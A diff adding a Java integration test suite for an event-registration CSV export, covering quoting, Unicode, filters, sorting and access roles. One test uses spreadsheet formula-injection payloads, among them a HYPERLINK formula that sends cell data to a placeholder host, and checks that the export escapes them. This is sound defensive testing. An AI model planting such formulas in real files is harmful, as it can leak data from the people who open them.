@@ -1,0 +1,341 @@
+package org.winformusic.events.export;
+
+import java.io.IOException;
+import java.io.StringReader;
+import java.nio.charset.StandardCharsets;
+import java.time.Clock;
+import java.time.Instant;
+import java.time.LocalDate;
+import java.time.ZoneId;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Map;
+
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
+import org.junit.jupiter.api.Test;
+
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
+import org.springframework.jdbc.core.simple.JdbcClient;
+import org.springframework.security.test.context.support.WithMockUser;
+import org.springframework.test.web.servlet.MockMvc;
+import org.springframework.test.web.servlet.MvcResult;
+import org.winformusic.events.IntegrationTest;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
+import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
+import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
+import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
+
+/**
+ * The CSV export as ops and their spreadsheets see it: parsed back with Commons CSV.
+ */
+@IntegrationTest
+@AutoConfigureMockMvc
+@WithMockUser(roles = "OPS")
+class ExportCsvTests {
+
+	static final List<String> ENGLISH_HEADERS = List.of("Registration ID", "Status", "Full name", "Email",
+			"Company or label", "Role", "Company type", "State", "City", "Phone", "Interest in the association",
+			"How they heard", "Accessibility needs or comments", "Language", "News opt-in", "Privacy consent version",
+			"Privacy consent time", "Registered at", "Confirmed at", "Cancelled at", "Checked in at",
+			"Waitlist position");
+
+	@Autowired
+	MockMvc mvc;
+
+	@Autowired
+	JdbcClient jdbc;
+
+	@Autowired
+	Clock clock;
+
+	TestExportData data() {
+		return new TestExportData(this.jdbc);
+	}
+
+	@Test
+	void everyStoredValueComesBackExactlyInTheDocumentedColumnOrder() throws Exception {
+		TestExportData data = data();
+		String slug = data.event("round-trip");
+		long plain = data.registration(slug).insert();
+		long tricky = data.registration(slug).with((r) -> {
+			r.fullName = "José Peña Ñúñez 🎶 مرحبا \"Pepe\", el de \"Discos\"";
+			r.company = "Sello, \"Quotes\" & Co.\r\nSegunda línea";
+			r.jobTitle = "Director; A&R";
+			r.comments = "Necesito rampa.\nY un intérprete de LSM.\r\n— gracias 🙏";
+			r.referralSource = "Instagram";
+			r.phone = null;
+			r.newsOptIn = true;
+			r.locale = "en";
+			r.companyType = "PUBLISHER";
+			r.state = "OUTSIDE_MX";
+			r.associationInterest = "MAYBE";
+			r.checkedInAt = Instant.parse("2028-04-01T16:05:09Z");
+		}).insert();
+		long cancelled = data.registration(slug).with((r) -> {
+			r.status = "CANCELLED";
+			r.cancelledAt = Instant.parse("2028-03-05T00:30:00Z");
+		}).insert();
+
+		List<CSVRecord> records = parse(export(slug, "lang=en"));
+
+		assertThat(records.get(0).toList()).isEqualTo(ENGLISH_HEADERS);
+		assertThat(records).hasSize(4);
+		assertThat(records.get(1).toList()).containsExactly(Long.toString(plain), "CONFIRMED", "Ana Pérez",
+				records.get(1).get(3), "Discos Roma", "Directora", "INDEPENDENT_LABEL", "CMX", "Ciudad de México",
+				"55 1234 5678", "YES", "", "", "es", "false", "2028-01", "2028-03-01T10:15:00-06:00",
+				"2028-03-01T10:15:00-06:00", "2028-03-01T10:15:30-06:00", "", "", "");
+		assertThat(records.get(2).toList()).containsExactly(Long.toString(tricky), "CONFIRMED",
+				"José Peña Ñúñez 🎶 مرحبا \"Pepe\", el de \"Discos\"", records.get(2).get(3),
+				"Sello, \"Quotes\" & Co.\r\nSegunda línea", "Director; A&R", "PUBLISHER", "OUTSIDE_MX",
+				"Ciudad de México", "", "MAYBE", "Instagram",
+				"Necesito rampa.\nY un intérprete de LSM.\r\n— gracias 🙏", "en", "true", "2028-01",
+				"2028-03-01T10:15:00-06:00", "2028-03-01T10:15:00-06:00", "2028-03-01T10:15:30-06:00", "",
+				"2028-04-01T10:05:09-06:00", "");
+		assertThat(records.get(3).get(0)).isEqualTo(Long.toString(cancelled));
+		assertThat(records.get(3).get(1)).isEqualTo("CANCELLED");
+		assertThat(records.get(3).get(19)).isEqualTo("2028-03-04T18:30:00-06:00");
+	}
+
+	@Test
+	void headersFollowTheRequestersLanguageSpanishByDefault() throws Exception {
+		String slug = data().event("spanish");
+		List<String> spanish = parse(export(slug, "")).get(0).toList();
+		assertThat(spanish).hasSize(ENGLISH_HEADERS.size());
+		assertThat(spanish.get(0)).isEqualTo("ID de registro");
+		assertThat(spanish.get(2)).isEqualTo("Nombre completo");
+		assertThat(spanish.get(21)).isEqualTo("Lugar en la lista de espera");
+	}
+
+	@Test
+	void formulaPayloadsOpenAsTextAndTheColumnCountStaysStable() throws Exception {
+		TestExportData data = data();
+		String slug = data.event("injection");
+		Map<String, String> expected = new java.util.LinkedHashMap<>();
+		expected.put("=1+1", "'=1+1");
+		expected.put("+1", "'+1");
+		expected.put("-1", "'-1");
+		expected.put("@SUM(1)", "'@SUM(1)");
+		expected.put("\t=1", "'\t=1");
+		expected.put("\r=1", "'\r=1");
+		expected.put("\n=1", "'\n=1");
+		expected.put("=HYPERLINK(\"http://x?\"&A1)", "'=HYPERLINK(\"http://x?\"&A1)");
+		expected.put("x\",=1+1", "x\",=1+1");
+		for (String payload : expected.keySet()) {
+			data.registration(slug).with((r) -> {
+				r.fullName = payload;
+				r.company = payload;
+				r.comments = payload;
+				r.phone = "+52 55 1234 5678";
+			}).insert();
+		}
+
+		List<CSVRecord> rows = parse(export(slug, "lang=en"));
+
+		assertThat(rows).hasSize(expected.size() + 1);
+		List<String> payloads = List.copyOf(expected.values());
+		for (int i = 0; i < payloads.size(); i++) {
+			CSVRecord row = rows.get(i + 1);
+			assertThat(row.size()).isEqualTo(ENGLISH_HEADERS.size());
+			assertThat(row.get(2)).isEqualTo(payloads.get(i));
+			assertThat(row.get(4)).isEqualTo(payloads.get(i));
+			assertThat(row.get(12)).isEqualTo(payloads.get(i));
+			assertThat(row.get(9)).isEqualTo("'+52 55 1234 5678");
+		}
+	}
+
+	@Test
+	void fileStartsWithAByteOrderMarkAndIsADownloadNobodyCaches() throws Exception {
+		String slug = data().event("headers");
+		data().registration(slug).insert();
+		String today = LocalDate.now(this.clock.withZone(ZoneId.of("America/Mexico_City"))).toString();
+		String fileName = slug + "-registrations-" + today + ".csv";
+
+		MvcResult result = this.mvc.perform(get("/admin/events/" + slug + "/registrations.csv"))
+			.andExpect(status().isOk())
+			.andExpect(header().string("Content-Type", "text/csv; charset=UTF-8"))
+			.andExpect(header().string("Content-Disposition",
+					"attachment; filename=\"" + fileName + "\"; filename*=UTF-8''" + fileName))
+			.andExpect(header().string("Cache-Control", "no-store"))
+			.andExpect(header().string("X-Content-Type-Options", "nosniff"))
+			.andReturn();
+
+		byte[] body = result.getResponse().getContentAsByteArray();
+		assertThat(Arrays.copyOf(body, 3)).containsExactly(0xEF, 0xBB, 0xBF);
+		String text = new String(body, StandardCharsets.UTF_8);
+		assertThat(text).contains("\r\n").doesNotContain("\r\n\r\n");
+		assertThat(text.split("\r\n")).hasSize(2);
+	}
+
+	@Test
+	void semicolonDelimiterForSpreadsheetsInSemicolonLocales() throws Exception {
+		TestExportData data = data();
+		String slug = data.event("semicolon");
+		data.registration(slug).with((r) -> r.company = "Uno; dos, tres").insert();
+
+		String body = export(slug, "delimiter=semicolon&lang=en");
+
+		List<CSVRecord> rows = CSVFormat.RFC4180.builder()
+			.setDelimiter(';')
+			.get()
+			.parse(new StringReader(body.substring(1)))
+			.getRecords();
+		assertThat(rows.get(0).toList()).isEqualTo(ENGLISH_HEADERS);
+		assertThat(rows.get(1).get(4)).isEqualTo("Uno; dos, tres");
+		assertThat(body).contains("\"Uno; dos, tres\"").startsWith("\uFEFFRegistration ID;Status;");
+	}
+
+	@Test
+	void eachFilterSelectsTheSameRegistrationsAsTheEquivalentSql() throws Exception {
+		TestExportData data = data();
+		String slug = data.event("filters");
+		data.registration(slug).with((r) -> r.fullName = "José Álvarez").insert();
+		data.registration(slug).with((r) -> {
+			r.fullName = "Maria Lopez";
+			r.company = "Sello 100% Indie_MX";
+			r.status = "WAITLISTED";
+			r.confirmedAt = null;
+			r.companyType = "DISTRIBUTOR";
+			r.state = "JAL";
+			r.associationInterest = "NO";
+		}).insert();
+		data.registration(slug).with((r) -> {
+			r.email = "JOSE.OTHER@EXAMPLE.ORG";
+			r.status = "PENDING";
+			r.confirmedAt = null;
+			r.state = "NLE";
+			r.associationInterest = "MAYBE";
+			r.checkedInAt = Instant.parse("2028-04-01T16:00:00Z");
+		}).insert();
+		data.registration(slug).with((r) -> {
+			r.status = "CANCELLED";
+			r.companyType = "OTHER";
+			r.cancelledAt = Instant.parse("2028-03-02T16:00:00Z");
+		}).insert();
+		long eventId = data.eventId(slug);
+
+		Map<String, String> filters = new java.util.LinkedHashMap<>();
+		filters.put("q=JOSE", "search_text like '%jose%'");
+		filters.put("q=%C3%A1lvarez", "search_text like '%alvarez%'");
+		filters.put("q=100%25", "search_text like '%100\\%%'");
+		filters.put("q=indie_mx", "search_text like '%indie\\_mx%'");
+		filters.put("q=nobody", "false");
+		filters.put("status=WAITLISTED", "status = 'WAITLISTED'");
+		filters.put("status=cancelled", "status = 'CANCELLED'");
+		filters.put("companyType=DISTRIBUTOR", "company_type = 'DISTRIBUTOR'");
+		filters.put("state=NLE", "state = 'NLE'");
+		filters.put("associationInterest=YES", "association_interest = 'YES'");
+		filters.put("checkedIn=true", "checked_in_at is not null");
+		filters.put("checkedIn=false", "checked_in_at is null");
+		filters.put("checkedIn=yes", "checked_in_at is not null");
+		filters.put("checkedIn=NO", "checked_in_at is null");
+		filters.put("status=&state=&q=", "true");
+		filters.put("status=CONFIRMED&companyType=INDEPENDENT_LABEL&q=jos",
+				"status = 'CONFIRMED' and " + "company_type = 'INDEPENDENT_LABEL' and search_text like '%jos%'");
+		for (Map.Entry<String, String> filter : filters.entrySet()) {
+			List<String> expected = this.jdbc
+				.sql("select id from registration where event_id = ? and (" + filter.getValue() + ") order by id")
+				.param(eventId)
+				.query(String.class)
+				.list();
+			List<String> exported = parse(export(slug, filter.getKey())).stream().skip(1).map((r) -> r.get(0)).toList();
+			assertThat(exported).as(filter.getKey()).isEqualTo(expected);
+		}
+		assertThat(parse(export(slug, "q=jose")).size() - 1).isEqualTo(2);
+	}
+
+	@Test
+	void rowsComeInTheListPagesOrder() throws Exception {
+		TestExportData data = data();
+		String slug = data.event("order");
+		// ASCII names: the order of accented letters depends on the database's collation.
+		for (String name : List.of("bea", "Dora", "Carla", "ana")) {
+			data.registration(slug).with((r) -> r.fullName = name).insert();
+		}
+
+		assertThat(names(slug, "")).containsExactly("bea", "Dora", "Carla", "ana");
+		assertThat(names(slug, "sort=name")).containsExactly("ana", "bea", "Carla", "Dora");
+		assertThat(names(slug, "sort=name&dir=desc")).containsExactly("Dora", "Carla", "bea", "ana");
+		assertThat(names(slug, "sort=nonsense")).containsExactly("bea", "Dora", "Carla", "ana");
+	}
+
+	private List<String> names(String slug, String query) throws Exception {
+		return parse(export(slug, query)).stream().skip(1).map((r) -> r.get(2)).toList();
+	}
+
+	@Test
+	void waitlistPositionsCountTheWholeWaitlistWhateverTheFilter() throws Exception {
+		TestExportData data = data();
+		String slug = data.event("waitlist");
+		data.registration(slug).insert();
+		for (String name : List.of("Primera", "Segunda", "Tercera")) {
+			data.registration(slug).with((r) -> {
+				r.fullName = name;
+				r.status = "WAITLISTED";
+				r.confirmedAt = null;
+			}).insert();
+		}
+
+		List<CSVRecord> all = parse(export(slug, ""));
+		assertThat(all.stream().skip(1).map((r) -> r.get(21))).containsExactly("", "1", "2", "3");
+		List<CSVRecord> second = parse(export(slug, "q=segunda"));
+		assertThat(second).hasSize(2);
+		assertThat(second.get(1).get(21)).isEqualTo("2");
+	}
+
+	@Test
+	void anInvalidFilterValueGetsAClearPageInTheReadersLanguage() throws Exception {
+		String slug = data().event("bad-filter");
+		this.mvc.perform(get("/admin/events/" + slug + "/registrations.csv?status=CONFIRMADO&lang=en"))
+			.andExpect(status().isBadRequest())
+			.andExpect(content().contentTypeCompatibleWith("text/html"))
+			.andExpect(content().string(org.hamcrest.Matchers
+				.containsString("The filter “status” does not accept the value “CONFIRMADO”.")))
+			.andExpect(content().string(org.hamcrest.Matchers.containsString("WAITLISTED")));
+		this.mvc.perform(get("/admin/events/" + slug + "/registrations.csv?checkedIn=si&lang=es"))
+			.andExpect(status().isBadRequest())
+			.andExpect(content()
+				.string(org.hamcrest.Matchers.containsString("El filtro «checkedIn» no acepta el valor «si».")));
+		this.mvc.perform(get("/admin/events/" + slug + "/registrations.csv?delimiter=tab&lang=en"))
+			.andExpect(status().isBadRequest());
+		this.mvc.perform(get("/admin/events/" + slug + "/registrations.xlsx?state=XX&lang=en"))
+			.andExpect(status().isBadRequest());
+	}
+
+	@Test
+	void anUnknownEventIsNotFound() throws Exception {
+		this.mvc.perform(get("/admin/events/no-such-event/registrations.csv")).andExpect(status().isNotFound());
+	}
+
+	@Test
+	@WithMockUser(roles = "ORGANIZER")
+	void organizersMayExport() throws Exception {
+		String slug = data().event("organizer");
+		this.mvc.perform(get("/admin/events/" + slug + "/registrations.csv")).andExpect(status().isOk());
+	}
+
+	@Test
+	@WithMockUser(roles = "ADMIN")
+	void adminsMayExport() throws Exception {
+		String slug = data().event("admin");
+		this.mvc.perform(get("/admin/events/" + slug + "/registrations.xlsx")).andExpect(status().isOk());
+	}
+
+	String export(String slug, String query) throws Exception {
+		// A URI, not a template: the query is already percent-encoded.
+		MvcResult result = this.mvc
+			.perform(get(java.net.URI.create("/admin/events/" + slug + "/registrations.csv?" + query)))
+			.andExpect(status().isOk())
+			.andReturn();
+		return new String(result.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
+	}
+
+	static List<CSVRecord> parse(String body) throws IOException {
+		assertThat(body).startsWith("\uFEFF");
+		return CSVFormat.RFC4180.parse(new StringReader(body.substring(1))).getRecords();
+	}
+
+}
